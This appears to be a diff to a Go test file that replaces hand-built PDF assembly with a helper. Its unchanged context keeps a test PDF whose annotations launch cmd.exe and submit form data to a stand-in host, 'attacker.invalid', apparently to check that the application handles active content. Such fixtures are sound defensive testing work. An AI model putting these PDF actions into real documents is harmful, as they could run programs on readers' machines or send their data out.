@@ -40,6 +40,7 @@ import (
 	"github.com/cynllun/cynllun"
 	"github.com/cynllun/cynllun/app"
 	"github.com/cynllun/cynllun/auth"
+	"github.com/cynllun/cynllun/internal/pdftest"
 	"github.com/cynllun/cynllun/seed"
 )
 
@@ -548,20 +549,7 @@ func activePDF() []byte {
 		"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>",
 		"<< /Type /Annot /Subtype /Link /Rect [100 0 200 100] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/) >> >> >>",
 	}
-	var b bytes.Buffer
-	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-	offsets := make([]int, len(objs))
-	for i, o := range objs {
-		offsets[i] = b.Len()
-		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	xref := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
-	for _, off := range offsets {
-		fmt.Fprintf(&b, "%010d 00000 n \n", off)
-	}
-	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
-	return b.Bytes()
+	return pdftest.Raw("1.7", objs...)
 }
 
 func (a *attacker) item8() {
